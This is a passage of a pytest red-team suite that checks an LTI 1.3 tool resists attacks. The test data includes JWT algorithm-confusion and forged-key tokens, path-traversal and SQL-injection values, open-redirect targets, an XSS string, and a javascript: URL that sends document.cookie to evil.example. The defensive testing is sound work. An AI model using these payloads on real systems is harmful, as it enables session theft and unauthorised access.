"""Red team: attacks on the LTI 1.3 tool (launch validation, identity and roles, the hand-off link, deep
linking, grade passback, the admin), each asserting the outcome a secure tool must give.

A test that fails here is an attack that currently succeeds: see the report that came with this file.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import logging
import time
from datetime import datetime, timedelta

import jwt
import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db.models import F
from django.test import Client
from django.utils import timezone
from jwcrypto.jwk import JWK
from lti_tool.models import LtiContext, LtiDeployment, LtiLineItem, LtiRegistration, LtiResourceLink, LtiUser

from quizsite.catalog.models import Exercise
from quizsite.courses.models import Assignment, Enrolment
from quizsite.learning.models import Submission
from quizsite.lti import passback
from quizsite.lti.models import CourseContext, LaunchState, LinkedAssignment, ScorePassback
from tests.helpers import (
    LTI_INSTRUCTOR,
    LTI_TARGET,
    graded_at,
    lti_deep_link_launch,
    lti_id_token,
    lti_launch,
    lti_login,
    make_assignment,
    make_course,
    make_submission,
)
from tests.lti.conftest import PlatformKeys, served_keys

pytestmark = pytest.mark.django_db

LTI = "https://purl.imsglobal.org/spec/lti/claim/"
DL = "https://purl.imsglobal.org/spec/lti-dl/claim/"
AGS = "https://purl.imsglobal.org/spec/lti-ags/claim/endpoint"
MEMBERSHIP = "http://purl.imsglobal.org/vocab/lis/v2/membership"


# --- helpers -----------------------------------------------------------------------------------------------


@pytest.fixture
def browser() -> Client:
    """A browser whose server errors come back as 500 responses (not raised), as a platform's user sees them."""
    return Client(raise_request_exception=False)


@pytest.fixture(scope="module")
def other_keys():
    """Platform B's keys; its kid is the same as platform A's, so only the key itself tells them apart."""
    with served_keys() as keys:
        yield keys


def _registration(issuer: str, client_id: str, keys: PlatformKeys, deployment: str = "dep-1") -> LtiRegistration:
    registration = LtiRegistration.objects.create(
        name=f"{issuer} {client_id}",
        issuer=issuer,
        client_id=client_id,
        auth_url=f"{issuer}/auth",
        token_url=f"{issuer}/token",
        keyset_url=keys.url,
        is_active=True,
    )
    LtiDeployment.objects.create(registration=registration, deployment_id=deployment, is_active=True)
    return registration


@pytest.fixture
def platform_b(db, other_keys) -> LtiRegistration:
    """Another platform, ``https://other.example`` (client ``tool-b``), with keys of its own."""
    return _registration("https://other.example", "tool-b", other_keys)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _raw_token(header: dict, claims: dict, private_pem: str | None = None, *, hmac_key: bytes | None = None) -> str:
    """A JWS built by hand (PyJWT refuses some of the headers and keys an attacker uses)."""
    signing_input = f"{_b64(json.dumps(header).encode())}.{_b64(json.dumps(claims).encode())}"
    if hmac_key is not None:
        signature = hmac.new(hmac_key, signing_input.encode(), hashlib.sha256).digest()
    elif private_pem is not None:
        key = serialization.load_pem_private_key(private_pem.encode(), password=None)
        signature = key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    else:
        signature = b""
    return f"{signing_input}.{_b64(signature)}"


def _claims(token: str) -> dict:
    return jwt.decode(token, options={"verify_signature": False})


def _post_launch(client, token: str, state: str):
    return client.post("/lti/launch/", {"id_token": token, "state": state})


def _refused(response, *statuses: int) -> str:
    """A readable refusal page with a 4xx status (one of ``statuses`` if given)."""
    allowed = statuses or tuple(range(400, 500))
    assert response.status_code in allowed, (response.status_code, response.content[:600])
    return response.content.decode()


def _no_traceback_logged(caplog) -> None:
    failures = [r for r in caplog.records if r.exc_info or (r.levelno >= logging.ERROR)]
    assert not failures, [f"{r.name}: {r.getMessage()}" for r in failures]


def _continue(client, response):
    """Follow a launch page's one-time hand-off link."""
    assert response.status_code == 200, response.content[:600]
    return client.get(response.context["continue_url"])


def _account_for(sub: str, registration):
    return LtiUser.objects.get(registration=registration, sub=sub).auth_user


# --- 1. launch validation -----------------------------------------------------------------------------------


@pytest.mark.parametrize("alg", ["HS256", "none", "None", "NONE"])
def test_a_token_signed_with_hs256_and_the_public_key_or_with_no_algorithm_is_refused(
    browser, registration, platform_keys, alg, caplog
):
    auth = lti_login(browser, registration)
    claims = _claims(lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"]))
    public_pem = platform_keys.key.export_to_pem().decode()
    header = {"alg": alg, "kid": "platform-key-1", "typ": "JWT"}
    token = _raw_token(header, claims, hmac_key=public_pem.encode() if alg == "HS256" else None)
    _refused(_post_launch(browser, token, auth["state"]), 400)
    assert not LtiUser.objects.exists()
    _no_traceback_logged(caplog)


def test_a_token_signed_with_hs256_keyed_by_the_jwk_json_is_refused(browser, registration, platform_keys):
    auth = lti_login(browser, registration)
    claims = _claims(lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"]))
    jwks_key = json.dumps(platform_keys.jwks()["keys"][0]).encode()
    token = _raw_token({"alg": "HS256", "kid": "platform-key-1"}, claims, hmac_key=jwks_key)
    _refused(_post_launch(browser, token, auth["state"]), 400)


@pytest.mark.parametrize(
    "kid",
    [None, "", "../../../../etc/passwd", "platform-key-1' OR '1'='1", 1, ["platform-key-1"], {"kid": "x"}, "x" * 5000],
    ids=["absent", "empty", "path", "sql", "int", "list", "object", "huge"],
)
def test_odd_kids_are_refused_with_a_page(browser, registration, platform_keys, kid, caplog):
    auth = lti_login(browser, registration)
    claims = _claims(lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"]))
    header = {"alg": "RS256"} if kid is None else {"alg": "RS256", "kid": kid}
    _refused(_post_launch(browser, _raw_token(header, claims, platform_keys.private_pem), auth["state"]), 400)
    assert not LtiUser.objects.exists()
    _no_traceback_logged(caplog)


def test_jku_x5u_and_jwk_headers_naming_the_attackers_key_are_ignored(browser, registration, platform_keys):
    attacker = JWK.generate(kty="RSA", size=2048, kid="platform-key-1")
    attacker_pem = attacker.export_to_pem(private_key=True, password=None).decode()
    for header in (
        {"jku": "https://evil.example/jwks.json"},
        {"x5u": "https://evil.example/cert.pem"},
        {"jwk": json.loads(attacker.export_public())},
    ):
        auth = lti_login(browser, registration)
        claims = _claims(lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"]))
        token = _raw_token({"alg": "RS256", "kid": "platform-key-1", **header}, claims, attacker_pem)
        assert "Signature verification failed" in _refused(_post_launch(browser, token, auth["state"]), 400)
    assert not LtiUser.objects.exists()


def test_an_embedded_jwk_with_its_own_kid_is_not_trusted(browser, registration):
    attacker = JWK.generate(kty="RSA", size=2048, kid="attacker")
    pem = attacker.export_to_pem(private_key=True, password=None).decode()
    auth = lti_login(browser, registration)
    claims = _claims(lti_id_token(registration, pem, nonce=auth["nonce"]))
    token = _raw_token({"alg": "RS256", "kid": "attacker", "jwk": json.loads(attacker.export_public())}, claims, pem)
    _refused(_post_launch(browser, token, auth["state"]), 400)


def test_a_token_signed_by_platform_a_for_platform_bs_issuer_is_refused(
    browser, registration, platform_keys, platform_b
):
    auth = lti_login(browser, platform_b)
    token = lti_id_token(platform_b, platform_keys.private_pem, nonce=auth["nonce"])  # A's key, B's iss and aud
    assert "Signature verification failed" in _refused(_post_launch(browser, token, auth["state"]), 400)
    assert not LtiUser.objects.exists()


def test_a_token_signed_by_platform_b_naming_platform_a_as_issuer_is_refused(
    browser, registration, platform_b, other_keys
):
    auth = lti_login(browser, registration)
    token = lti_id_token(registration, other_keys.private_pem, nonce=auth["nonce"])  # B's key, A's iss and aud
    _refused(_post_launch(browser, token, auth["state"]), 400)
    assert not LtiUser.objects.exists()


def test_platform_b_cannot_use_its_own_valid_token_under_platform_as_client_id(
    browser, registration, platform_b, other_keys
):
    """iss is B, signed by B, but aud names A's client id: no registration is (B, tool-1)."""
    auth = lti_login(browser, platform_b)
    token = lti_id_token(platform_b, other_keys.private_pem, nonce=auth["nonce"], aud="tool-1")
    _refused(_post_launch(browser, token, auth["state"]), 400)


def _signed_launch(client, registration, platform_keys, overrides: dict):
    """Log in, then launch with a token the platform really signed, whatever its claims (PyJWT would refuse
    to encode some of them); ``None`` removes a claim."""
    auth = lti_login(client, registration)
    claims = _claims(lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"]))
    for name, value in overrides.items():
        if value is None:
            claims.pop(name, None)
        else:
            claims[name] = value
    token = _raw_token({"alg": "RS256", "kid": "platform-key-1"}, claims, platform_keys.private_pem)
    return _post_launch(client, token, auth["state"])


def _claim_id(overrides: dict) -> str:
    name, value = next(iter(overrides.items()))
    return f"{name.rsplit('/', 1)[-1]}={value!r}"[:40]


# Claims a launch cannot be accepted without, or that are the wrong type: a 4xx page.
_BROKEN = [
    {"aud": []},
    {"aud": {"tool-1": True}},
    {"aud": None},
    {"iss": None},
    {"iss": ["https://lms.example"]},
    {"azp": ["tool-1"]},
    {"nonce": None},
    {"nonce": ["n"]},
    {"sub": None},
    {"sub": {"id": "learner-1"}},
    {"sub": "x" * 300},
    {"sub": "learner\x00-1"},
    {"exp": "tomorrow"},
    {"iat": None},
    {f"{LTI}context": "course-1"},
    {f"{LTI}context": ["course-1"]},
    {f"{LTI}context": {"id": "c" * 300}},
    {f"{LTI}resource_link": "link-1"},
    {f"{LTI}resource_link": {"title": "no id"}},
    {f"{LTI}resource_link": {"id": "r" * 300}},
    {f"{LTI}message_type": "LtiStartProctoring"},
    {f"{LTI}version": "1.1.0"},
    {f"{LTI}deployment_id": ["dep-1"]},
    {f"{LTI}deployment_id": None},
    {f"{LTI}deployment_id": "d" * 300},
    {f"{LTI}target_link_uri": None},
]

# Optional claims that are odd, too long or the wrong type: accepted without them, or refused, but never a 500
# and never more rights.
_ODD = [
    {f"{LTI}roles": "Instructor"},
    {f"{LTI}roles": {"role": "Instructor"}},
    {f"{LTI}roles": [1, None]},
    {f"{LTI}custom": ["gym_assignment"]},
    {AGS: "https://lms.example/lineitems"},
    {AGS: {"lineitem": 7}},
    {AGS: {"lineitem": "https://lms.example/" + "l" * 300}},
    {"given_name": 42},
    {"given_name": "Ada\x00"},
    {"email": ["a@b.c"]},
    {"email": "x" * 300 + "@lms.example"},
    {"picture": "https://lms.example/" + "p" * 300},
    {f"{LTI}launch_presentation": "iframe"},
    {f"{LTI}tool_platform": {"name": "no guid"}},
    {f"{LTI}context": {"id": "course-1", "label": "L" * 300, "title": "T" * 600}},
    {"https://purl.imsglobal.org/spec/lti-nrps/claim/namesroleservice": {"context_memberships_url": "u" * 300}},
]


@pytest.mark.parametrize("overrides", _BROKEN, ids=_claim_id)
def test_a_signed_launch_with_missing_or_garbled_claims_gets_a_4xx_page_never_a_500(
    browser, registration, platform_keys, overrides, caplog
):
    response = _signed_launch(browser, registration, platform_keys, overrides)
    assert response.status_code != 500, "server error"
    _refused(response)
    assert not get_user_model().objects.filter(lti_users__isnull=False).exists()
    _no_traceback_logged(caplog)


@pytest.mark.parametrize("overrides", _ODD, ids=_claim_id)
def test_a_signed_launch_with_odd_optional_claims_is_never_a_500_nor_grants_staff(
    browser, registration, platform_keys, overrides, caplog
):
    response = _signed_launch(browser, registration, platform_keys, overrides)
    assert response.status_code != 500, "server error"
    assert response.status_code == 200 or 400 <= response.status_code < 500
    assert not get_user_model().objects.filter(is_staff=True).exists()
    assert not Enrolment.objects.filter(role__in=Enrolment.STAFF_ROLES).exists()
    _no_traceback_logged(caplog)


def test_a_line_item_url_longer_than_we_store_is_not_a_500(registration, platform_keys, synced, caplog):
    ags = {"scope": [], "lineitem": "https://lms.example/lineitems/" + "7" * 300 + "/lineitem"}
    response, _, _ = lti_launch(Client(raise_request_exception=False), registration, platform_keys, **{AGS: ags})
    assert response.status_code != 500, "server error"
    _no_traceback_logged(caplog)


@pytest.mark.parametrize("part", ["header", "body"])
@pytest.mark.parametrize("payload", [b"[]", b'"text"', b"null", b"\xff\xfe", b"{" * 10])
def test_a_token_whose_header_or_body_is_not_a_json_object_gets_a_page(
    browser, registration, platform_keys, part, payload, caplog
):
    auth = lti_login(browser, registration)
    header, body, signature = lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"]).split(".")
    header, body = (_b64(payload), body) if part == "header" else (header, _b64(payload))
    _refused(_post_launch(browser, f"{header}.{body}.{signature}", auth["state"]), 400)
    _no_traceback_logged(caplog)


def test_the_state_of_one_login_with_the_nonce_of_another_is_refused(browser, registration, platform_keys):
    first, second = lti_login(browser, registration), lti_login(Client(), registration)
    token = lti_id_token(registration, platform_keys.private_pem, nonce=second["nonce"])
    _refused(_post_launch(browser, token, first["state"]), 400)
    assert not LtiUser.objects.exists()


def test_a_nonce_issued_for_a_login_at_platform_b_cannot_be_used_by_platform_a(
    browser, registration, platform_keys, platform_b
):
    """B's login hands its nonce to B's authorisation endpoint; it must not validate a launch A signs."""
    at_a, at_b = lti_login(browser, registration), lti_login(Client(), platform_b)
    token = lti_id_token(registration, platform_keys.private_pem, nonce=at_b["nonce"])
    _refused(_post_launch(browser, token, at_a["state"]), 400)


def test_a_launch_naming_another_registrations_deployment_is_held_inactive(
    browser, registration, platform_keys, platform_b
):
    LtiDeployment.objects.filter(registration=platform_b).update(deployment_id="dep-b")
    response, _, _ = lti_launch(browser, registration, platform_keys, **{f"{LTI}deployment_id": "dep-b"})
    _refused(response, 403)
    spoofed = LtiDeployment.objects.get(registration=registration, deployment_id="dep-b")
    assert not spoofed.is_active
    assert LtiDeployment.objects.get(registration=platform_b).is_active
    assert not get_user_model().objects.filter(lti_users__sub="learner-1").exists()
    assert not CourseContext.objects.exists()


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/exercises/inverted-dropout/",
        "//evil.example/exercises/inverted-dropout/",
        "http://testserver/admin/",
        "http://testserver/admin/auth/user/",
        "javascript:alert(document.cookie)//",
        "http://testserver/lti/continue/abc/",
    ],
)
def test_a_launch_target_never_sends_a_learner_off_site_or_into_the_admin(browser, registration, platform_keys, target):
    response, _, _ = lti_launch(browser, registration, platform_keys, target=target)
    assert b"javascript:alert" not in response.content
    opened = _continue(browser, response)
    assert opened.status_code == 302
    location = opened["Location"]
    assert location.startswith("/") and not location.startswith("//") and not location.startswith("/admin"), location


def test_a_huge_target_link_uri_at_login_is_not_a_500(browser, registration, caplog):
    response = browser.get(
        "/lti/login/",
        {"iss": registration.issuer, "login_hint": "x", "client_id": "tool-1", "target_link_uri": "http://t/" * 20000},
    )
    assert response.status_code in (302, 400, 413, 414)
    _no_traceback_logged(caplog)


@pytest.mark.parametrize(
    "params",
    [
        {"iss": "https://lms.example\x00", "login_hint": "x", "target_link_uri": LTI_TARGET},
        {"iss": "https://lms.example", "login_hint": "x", "client_id": "tool\x00", "target_link_uri": LTI_TARGET},
        {"iss": "x" * 10000, "login_hint": "x", "target_link_uri": LTI_TARGET},
    ],
    ids=["nul-iss", "nul-client", "huge-iss"],
)
def test_odd_login_parameters_get_a_page(browser, registration, params, caplog):
    _refused(browser.get("/lti/login/", params))
    _no_traceback_logged(caplog)


@pytest.mark.parametrize(
    "state", ["state-\x00", "s" * 10000, "state-%s" % ("\u202e" * 50)], ids=["nul", "huge", "bidi"]
)
def test_odd_states_get_a_page(browser, registration, platform_keys, state, caplog):
    auth = lti_login(browser, registration)
    token = lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"])
    _refused(_post_launch(browser, token, state), 400)
    _no_traceback_logged(caplog)


@pytest.mark.parametrize("nonce", ["n\x00nce", "n" * 10000], ids=["nul", "huge"])
def test_odd_nonces_get_a_page(browser, registration, platform_keys, nonce, caplog):
    auth = lti_login(browser, registration)
    token = lti_id_token(registration, platform_keys.private_pem, nonce=nonce)
    _refused(_post_launch(browser, token, auth["state"]), 400)
    _no_traceback_logged(caplog)


def test_a_megabyte_id_token_gets_a_page(browser, registration, platform_keys, caplog):
    auth = lti_login(browser, registration)
    token = lti_id_token(registration, platform_keys.private_pem, nonce=auth["nonce"], filler="x" * 1_000_000)
    response = _post_launch(browser, token, auth["state"])
    assert response.status_code != 500
    _no_traceback_logged(caplog)


def test_a_return_url_with_a_javascript_scheme_is_never_rendered_as_a_link(browser, registration, platform_keys):
    """A platform's launch_presentation.return_url is shown on refusal pages (target=_top): it must not be
    a script on our origin."""
    presentation = {"return_url": "javascript:fetch('//evil.example/?'+document.cookie)//", "document_target": "window"}
    response, _, _ = lti_launch(
        browser,
        registration,
        platform_keys,
        **{f"{LTI}deployment_id": "dep-unapproved", f"{LTI}launch_presentation": presentation},
    )
    page = _refused(response, 403)
    assert "javascript:" not in page.lower()


# --- 2. identity and roles ----------------------------------------------------------------------------------


def test_the_same_sub_at_another_issuer_is_another_person(registration, platform_keys, platform_b, other_keys):
    assert lti_launch(Client(), registration, platform_keys)[0].status_code == 200
    other_context = {f"{LTI}context": {"id": "course-1", "label": "B-101", "title": "At B"}}
    assert lti_launch(Client(), platform_b, other_keys, **other_context)[0].status_code == 200
    assert _account_for("learner-1", registration) != _account_for("learner-1", platform_b)


def test_a_registration_that_reuses_an_issuer_with_other_keys_cannot_take_over_its_users(
    registration, platform_keys, other_keys
):
    """Platform B registers with A's issuer string (an issuer is a name, not a proof) and its own keys: the
    person B calls ``learner-1`` must not become A's learner-1."""
    impostor = _registration(registration.issuer, "tool-evil", other_keys)
    assert lti_launch(Client(), registration, platform_keys)[0].status_code == 200
    response = lti_launch(
        Client(raise_request_exception=False),
        impostor,
        other_keys,
        email="mallory@evil.example",
        **{f"{LTI}context": {"id": "evil-1", "label": "EVIL-1", "title": "Evil"}},
    )[0]
    assert response.status_code != 500
    victim = _account_for("learner-1", registration)
    assert not LtiUser.objects.filter(registration=impostor, auth_user=victim).exists()
    victim.refresh_from_db()
    assert victim.email == "ada@lms.example"


def test_an_lti_launch_never_takes_over_a_local_account_with_the_same_email_or_name(
    browser, registration, platform_keys, learner
):
    learner.email = "ada@lms.example"
    learner.save()
    response, _, _ = lti_launch(browser, registration, platform_keys, sub="ada")
    opened = _continue(browser, response)
    assert opened.status_code == 302
    account = _account_for("ada", registration)
    assert account != learner and account.username != "ada"
    assert browser.get("/").wsgi_request.user == account
    learner.refresh_from_db()
    assert learner.has_usable_password() and learner.check_password("pw-ada-123456")


def test_a_local_user_who_took_the_lti_username_first_neither_breaks_nor_receives_the_launch(
    browser, registration, platform_keys, caplog
):
    digest = hashlib.sha256(f"{registration.issuer}\0learner-1".encode()).hexdigest()[:16]
    squatter = get_user_model().objects.create_user(username=f"lti-{digest}", password="pw-squat-123456")
    response, _, _ = lti_launch(browser, registration, platform_keys)
    assert response.status_code != 500, "the launch crashed on the username collision"
    assert response.status_code == 200, response.content[:400]
    assert _account_for("learner-1", registration) != squatter
    _no_traceback_logged(caplog)


def test_the_signup_form_does_not_hand_out_lti_usernames(client, db):
    """The hash is computable from public data (issuer, often a numeric sub), so squatting is easy."""
    digest = hashlib.sha256(b"https://lms.example\x002").hexdigest()[:16]
    response = client.post(
        "/accounts/signup/",
        {"username": f"lti-{digest}", "password1": "a-long-pass-12345", "password2": "a-long-pass-12345"},
    )
    assert not get_user_model().objects.filter(username=f"lti-{digest}").exists(), response.status_code


@pytest.mark.parametrize(
    "roles",
    [
        ["http://purl.imsglobal.org/vocab/lis/v2/institution/person#Administrator"],
        ["http://purl.imsglobal.org/vocab/lis/v2/institution/person#Instructor", f"{MEMBERSHIP}#Learner"],
        ["http://purl.imsglobal.org/vocab/lis/v2/system/person#Administrator", f"{MEMBERSHIP}#Learner"],
        [f"{MEMBERSHIP}/Learner#Instructor"],
        [f"{MEMBERSHIP}#Mentor", f"{MEMBERSHIP}/Mentor#Reviewer"],
        ["urn:lti:role:ims/lis/Instructor", f"{MEMBERSHIP}#Learner"],
        [f"{MEMBERSHIP}#Learner", "http://example.com/our-own-vocabulary#TeachingAssistant"],
        [f"{MEMBERSHIP}#Learner", f"{MEMBERSHIP}#Instructorish"],
    ],
    ids=[
        "inst-admin",
        "inst-instructor",
        "sys-admin",
        "learner-sub-instructor",
        "mentor",
        "lti11-urn",
        "foreign-ta",
        "prefix",
    ],
)
def test_a_launch_without_a_context_staff_role_never_gets_staff(browser, registration, platform_keys, roles):
    response, _, _ = lti_launch(browser, registration, platform_keys, roles=roles)
    assert response.status_code in (200, 400, 403)
    account = LtiUser.objects.get(sub="learner-1").auth_user
    assert not account.is_staff and not account.is_superuser
    assert not Enrolment.objects.filter(user=account, role__in=Enrolment.STAFF_ROLES).exists()


def test_instructor_in_one_context_is_not_staff_of_another(registration, platform_keys, synced):
    lti_launch(Client(), registration, platform_keys, roles=LTI_INSTRUCTOR)
    lti_launch(
        Client(),
        registration,
        platform_keys,
        **{f"{LTI}context": {"id": "course-2", "label": "ML-202", "title": "Other"}},
    )
    other = CourseContext.objects.get(context__id_on_platform="course-2").course
    assert Enrolment.objects.get(course=other, user__lti_users__sub="learner-1").role == Enrolment.Role.LEARNER


@pytest.mark.parametrize("shape", ["other-course", "garbage", "list", "int"])
def test_gym_assignment_cannot_link_a_resource_link_to_another_courses_assignment(
    registration, platform_keys, synced, shape
):
    foreign = make_assignment(make_course())
    value = {"other-course": str(foreign.pk), "garbage": "'; DROP TABLE x; --", "list": [str(foreign.pk)], "int": 7}
    response, _, _ = lti_launch(
        Client(raise_request_exception=False),
        registration,
        platform_keys,
        **{f"{LTI}custom": {"gym_assignment": value[shape]}},
    )
    assert response.status_code in (200, 400)
    assert not LinkedAssignment.objects.filter(assignment=foreign).exists()
    assert Assignment.objects.get(pk=foreign.pk).course != CourseContext.objects.get().course


def test_two_platform_courses_with_the_same_label_both_launch(registration, platform_keys, caplog):
    """Labels are not unique across platforms or contexts (and a local course may already use one)."""
    make_course(code="ML-101", term="")
    first = lti_launch(Client(raise_request_exception=False), registration, platform_keys)[0]
    second = lti_launch(
        Client(raise_request_exception=False),
        registration,
        platform_keys,
        sub="learner-2",
        **{f"{LTI}context": {"id": "course-2", "label": "ML-101", "title": "Deep learning, section B"}},
    )[0]
    assert (first.status_code, second.status_code) == (200, 200)
    _no_traceback_logged(caplog)


def test_two_contexts_without_a_label_both_launch(registration, platform_keys, caplog):
    statuses = [
        lti_launch(
            Client(raise_request_exception=False),
            registration,
            platform_keys,
            sub=f"learner-{n}",
            **{f"{LTI}context": {"id": f"course-{n}", "title": f"Course {n}"}},
        )[0].status_code
        for n in (1, 2)
    ]
    assert statuses == [200, 200]
    _no_traceback_logged(caplog)


# --- admin scoping ------------------------------------------------------------------------------------------


@pytest.fixture
def two_lti_courses(registration, synced):
    """Courses A and B, each an LTI context with a linked assignment; ``prof`` teaches A, ``ta`` assists in A,
    ``turing`` teaches B."""
    users = get_user_model().objects
    prof = users.create_user(username="prof", password="pw", is_staff=True)
    ta = users.create_user(username="ta", password="pw", is_staff=True)
    turing = users.create_user(username="turing", password="pw", is_staff=True)
    deployment = registration.deployments.get()
    made = {}
    for name, staff in (("a", {"instructors": [prof], "assistants": [ta]}), ("b", {"instructors": [turing]})):
        course = make_course(**staff)
        context = LtiContext.objects.create(deployment=deployment, id_on_platform=f"ctx-{name}", title=name)
        course_context = CourseContext.objects.create(context=context, course=course)
        link = LtiResourceLink.objects.create(context=context, id_on_platform=f"link-{name}")
        line_item = LtiLineItem.objects.create(
            context=context, url=f"https://lms.example/{name}/lineitem", label=name, maximum_score=10
        )
        linked = LinkedAssignment.objects.create(
            resource_link=link, assignment=make_assignment(course), line_item=line_item
        )
        made[name] = (course_context, linked)
    return {"prof": prof, "ta": ta, "turing": turing, **made}


def _admin(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_an_instructor_cannot_see_or_sync_another_courses_lti_context(two_lti_courses, monkeypatch):
    from quizsite.lti import tasks

    queued = []
    monkeypatch.setattr(tasks.sync_roster, "delay", lambda pk: queued.append(pk))
    prof = _admin(two_lti_courses["prof"])
    theirs, _ = two_lti_courses["b"]
    listing = prof.get("/admin/lti/coursecontext/")
    assert listing.status_code == 200 and "ctx-b" not in listing.content.decode()
    assert prof.get(f"/admin/lti/coursecontext/{theirs.pk}/change/").status_code in (302, 403, 404)
    prof.post("/admin/lti/coursecontext/", {"action": "sync_roster", "_selected_action": [theirs.pk]})
    assert theirs.pk not in queued


def test_a_teaching_assistant_cannot_sync_the_roster(two_lti_courses, monkeypatch):
    from quizsite.lti import tasks

    queued = []
    monkeypatch.setattr(tasks.sync_roster, "delay", lambda pk: queued.append(pk))
    ours, _ = two_lti_courses["a"]
    response = _admin(two_lti_courses["ta"]).post(
        "/admin/lti/coursecontext/", {"action": "sync_roster", "_selected_action": [ours.pk]}
    )
    assert response.status_code in (302, 403) and queued == []


def test_an_instructor_cannot_see_or_resend_another_courses_grades(two_lti_courses, monkeypatch):
    resent = []
    monkeypatch.setattr(passback, "assignment_changed", lambda **kw: resent.append(kw["assignment"]) or 0)
    prof = _admin(two_lti_courses["prof"])
    _, theirs = two_lti_courses["b"]
    assert "link-b" not in prof.get("/admin/lti/linkedassignment/").content.decode()
    assert prof.get(f"/admin/lti/linkedassignment/{theirs.pk}/change/").status_code in (302, 403, 404)
    prof.post("/admin/lti/linkedassignment/", {"action": "resend_grades", "_selected_action": [theirs.pk]})
    assert theirs.assignment not in resent


def test_a_teaching_assistant_cannot_resend_grades_or_delete_links(two_lti_courses, monkeypatch):
    resent = []
    monkeypatch.setattr(passback, "assignment_changed", lambda **kw: resent.append(kw["assignment"]) or 0)
    ta = _admin(two_lti_courses["ta"])
    _, ours = two_lti_courses["a"]
    ta.post("/admin/lti/linkedassignment/", {"action": "resend_grades", "_selected_action": [ours.pk]})
    ta.post("/admin/lti/linkedassignment/", {"action": "delete_selected", "_selected_action": [ours.pk], "post": "yes"})
    assert resent == [] and LinkedAssignment.objects.filter(pk=ours.pk).exists()


def test_a_former_ta_who_is_now_only_a_learner_sees_no_lti_admin(two_lti_courses):
    ta = two_lti_courses["ta"]
    Enrolment.objects.filter(user=ta).update(role=Enrolment.Role.LEARNER)
    client = _admin(ta)  # still is_staff from the old role
    for url in ("/admin/lti/coursecontext/", "/admin/lti/linkedassignment/"):
        assert client.get(url).status_code == 403


@pytest.mark.parametrize("who", ["prof", "ta"])
def test_score_passback_admin_is_superuser_only(two_lti_courses, who):
    client = _admin(two_lti_courses[who])
    assert client.get("/admin/lti/scorepassback/").status_code == 403
    assert b"scorepassback" not in client.get("/admin/").content


def test_score_passback_admin_is_superuser_only_even_with_model_permissions(two_lti_courses):
    """Every learner's marks on every platform: a support account given the model's permissions is still not a
    superuser."""
    support = get_user_model().objects.create_user(username="support", password="pw", is_staff=True)
    support.user_permissions.set(Permission.objects.filter(content_type__app_label="lti", codename__contains="score"))
    client = _admin(support)
    assert client.get("/admin/lti/scorepassback/").status_code == 403


@pytest.mark.parametrize("model", ["ltiregistration", "ltideployment", "key"])
def test_instructors_cannot_reach_platform_registrations_or_keys(two_lti_courses, model):
    app = "lti_tool"
    assert _admin(two_lti_courses["prof"]).get(f"/admin/{app}/{model}/").status_code == 403


# --- 3. the hand-off link -----------------------------------------------------------------------------------


def test_an_expired_hand_off_link_is_refused(browser, registration, platform_keys):
    response, _, _ = lti_launch(browser, registration, platform_keys)
    LaunchState.objects.filter(key__startswith="handoff-").update(expires_at=timezone.now() - timedelta(seconds=1))
    _refused(browser.get(response.context["continue_url"]), 400)
    assert "_auth_user_id" not in browser.session


def test_a_hand_off_link_works_once_even_from_another_browser(registration, platform_keys):
    first = Client()
    response, _, _ = lti_launch(first, registration, platform_keys)
    url = response.context["continue_url"]
    assert first.get(url).status_code == 302
    thief = Client()
    _refused(thief.get(url), 400)
    assert "_auth_user_id" not in thief.session


@pytest.mark.parametrize("token", ["a" * 43, "handoff-x", "..%2F..%2Fadmin", "x" * 5000, "%00"])
def test_guessed_or_odd_hand_off_tokens_are_refused_with_a_page(browser, registration, token, caplog):
    _refused(browser.get(f"/lti/continue/{token}/"), 400, 404)
    assert "_auth_user_id" not in browser.session
    _no_traceback_logged(caplog)


def test_hand_off_tokens_are_long_and_random(browser, registration, platform_keys):
    tokens = set()
    for _ in range(3):
        response, _, _ = lti_launch(Client(), registration, platform_keys)
        tokens.add(response.context["continue_url"].rstrip("/").rsplit("/", 1)[-1])
    assert len(tokens) == 3 and all(len(token) >= 40 for token in tokens)


def test_the_hand_off_does_not_make_the_launched_person_staff_by_being_first(browser, registration, platform_keys):
    response, _, _ = lti_launch(browser, registration, platform_keys)
    _continue(browser, response)
    assert browser.get("/admin/").status_code == 302  # the admin login page, not the admin


# --- 4. deep linking ----------------------------------------------------------------------------------------


def test_a_learners_deep_linking_launch_id_cannot_pick(browser, registration, platform_keys, synced):
    page = lti_deep_link_launch(browser, registration, platform_keys, roles=[f"{MEMBERSHIP}#Learner"])
    assert page.status_code == 403
    launch_id = LaunchState.objects.filter(key__startswith="lti1p3-launch-").values_list("key", flat=True).get()
    response = browser.post("/lti/deep-link/", {"launch_id": launch_id, "exercise": ["inverted-dropout"]})
    assert response.status_code == 403
    assert not Assignment.objects.exists()


def test_a_deep_linking_launch_id_picks_only_once(browser, registration, platform_keys, synced):
    picker = lti_deep_link_launch(browser, registration, platform_keys)
    launch_id = picker.context["launch_id"]
    assert (
        browser.post("/lti/deep-link/", {"launch_id": launch_id, "exercise": ["inverted-dropout"]}).status_code == 200
    )
    again = Client().post("/lti/deep-link/", {"launch_id": launch_id, "quiz": [picker.context["quizzes"][0].slug]})
    assert again.status_code in (400, 403, 410)


def test_unpublished_or_unknown_items_cannot_be_picked(browser, registration, platform_keys, synced):
    picker = lti_deep_link_launch(browser, registration, platform_keys)
    Exercise.objects.filter(slug="inverted-dropout").update(is_published=False)
    response = browser.post(
        "/lti/deep-link/",
        {
            "launch_id": picker.context["launch_id"],
            "exercise": ["inverted-dropout", "no-such-exercise", '"><script>alert(1)</script>'],
            "quiz": ["no-such-quiz"],
        },
    )
    assert response.status_code == 422
    assert not Assignment.objects.exists()
    assert b"<script>alert(1)" not in response.content


def test_the_picker_escapes_the_platforms_course_title(browser, registration, platform_keys, synced):
